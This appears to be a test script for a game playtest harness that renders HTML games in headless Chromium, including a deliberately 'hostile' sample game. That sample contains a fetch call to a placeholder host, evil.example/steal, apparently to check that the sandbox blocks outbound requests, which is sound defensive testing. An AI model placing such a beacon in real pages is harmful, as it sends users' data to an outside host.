import fs from 'node:fs';
import { playtestGame } from './activities/scan/playtest.ts';
const html = fs.readFileSync('templates/basic_platformer/game.html', 'utf8');
let r = await playtestGame(html, { chromiumPath: '/usr/bin/chromium' });
console.log(JSON.stringify({ ...r, thumbnail_png: r.thumbnail_png?.length }));
fs.writeFileSync('/tmp/thumb.png', r.thumbnail_png!);
const hostile = `<!doctype html><html><body><canvas id=c width=300 height=200></canvas><script>
const ctx = document.getElementById('c').getContext('2d'); let t = 0;
fetch('http://evil.example/steal').catch(() => {});
addEventListener('keydown', () => {});
requestAnimationFrame(function f(){ t++; ctx.fillStyle = '#123'; ctx.fillRect(0,0,300,200); ctx.fillStyle='#fff'; ctx.fillRect(t % 300, 50, 20, 20); requestAnimationFrame(f); });
</script></body></html>`;
r = await playtestGame(hostile, { chromiumPath: '/usr/bin/chromium' });
console.log(JSON.stringify({ ...r, thumbnail_png: r.thumbnail_png?.length }));
r = await playtestGame(hostile, { chromiumPath: '/nonexistent/chromium' });
console.log(JSON.stringify(r));
